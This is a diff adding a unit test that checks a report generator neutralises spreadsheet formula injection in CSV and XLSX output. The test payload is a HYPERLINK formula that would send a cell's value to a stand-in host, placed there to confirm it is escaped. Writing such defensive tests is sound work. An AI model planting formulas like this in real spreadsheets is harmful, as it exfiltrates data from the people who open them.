@@ -433,6 +433,19 @@ def test_report_as_csv_and_xlsx(tmp_path):
         [list(files.REPORT_HEADERS)] + [list(r) for r in rows]
 
 
+def test_a_header_that_is_a_formula_stays_text_in_the_report(tmp_path):
+    """The column is the uploaded file's own header: "=HYPERLINK(...)" must not run when
+    staff open the report."""
+    rows = [(2, '=HYPERLINK("http://x.example/?"&A1,"Xem")', "Không hợp lệ", "not valid")]
+    text = "".join(files.report_csv(iter(rows)))
+    parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert parsed[1][1] == "'" + rows[0][1]
+    path = tmp_path / "report.xlsx"
+    files.write_report_xlsx(iter(rows), path)
+    cell = openpyxl.load_workbook(path).active["B2"]
+    assert cell.data_type == "s" and cell.value == rows[0][1]
+
+
 def test_digits_that_are_not_ascii_are_a_format_error(tmp_path):
     [(record, errors)] = check(tmp_path, good_row(**{NID_COL: "０８９０８５０００１２３"}))
     assert [e.code for e in errors] == ["national_id.format"]
